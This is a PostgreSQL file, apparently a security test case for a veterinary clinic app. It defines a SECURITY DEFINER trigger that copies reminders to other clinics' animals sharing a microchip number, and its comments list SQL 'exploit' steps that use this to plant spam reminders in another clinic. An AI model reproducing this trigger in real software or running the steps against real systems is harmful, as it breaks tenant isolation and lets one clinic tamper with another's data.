-- Reminders go to the owner's other clinics: a trigger writes them for the animal with the same chip
-- anywhere.
-- about: spread_reminder, reminders
-- as: hf_veterinary_app
-- exploit: SET vet.clinic_id = 'aa000000-0000-0000-0000-000000000001';
-- exploit: UPDATE vet.animals SET chip = 'CH9';
-- exploit: INSERT INTO vet.reminders VALUES (vet.clinic_id(), 'aa000000-0000-0000-0000-000000000003', 'spam',
-- exploit:   '2026-10-01', 'buy now');
-- shows: copied to 1
CREATE FUNCTION vet.spread_reminder() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = vet, pg_temp AS $$
DECLARE
  v_count int;
BEGIN
  IF pg_trigger_depth() > 1 THEN
    RETURN NULL;
  END IF;
  INSERT INTO vet.reminders (clinic_id, animal_id, kind, due_on, body)
    SELECT o.clinic_id, o.id, NEW.kind, NEW.due_on, NEW.body
    FROM vet.animals a JOIN vet.animals o ON o.chip = a.chip AND o.clinic_id <> a.clinic_id
    WHERE a.clinic_id = NEW.clinic_id AND a.id = NEW.animal_id
    ON CONFLICT DO NOTHING;
  GET DIAGNOSTICS v_count = ROW_COUNT;
  RAISE NOTICE 'copied to %', v_count;
  RETURN NULL;
END $$;
REVOKE ALL ON FUNCTION vet.spread_reminder() FROM PUBLIC;
CREATE TRIGGER spread_reminder AFTER INSERT ON vet.reminders
  FOR EACH ROW EXECUTE FUNCTION vet.spread_reminder();
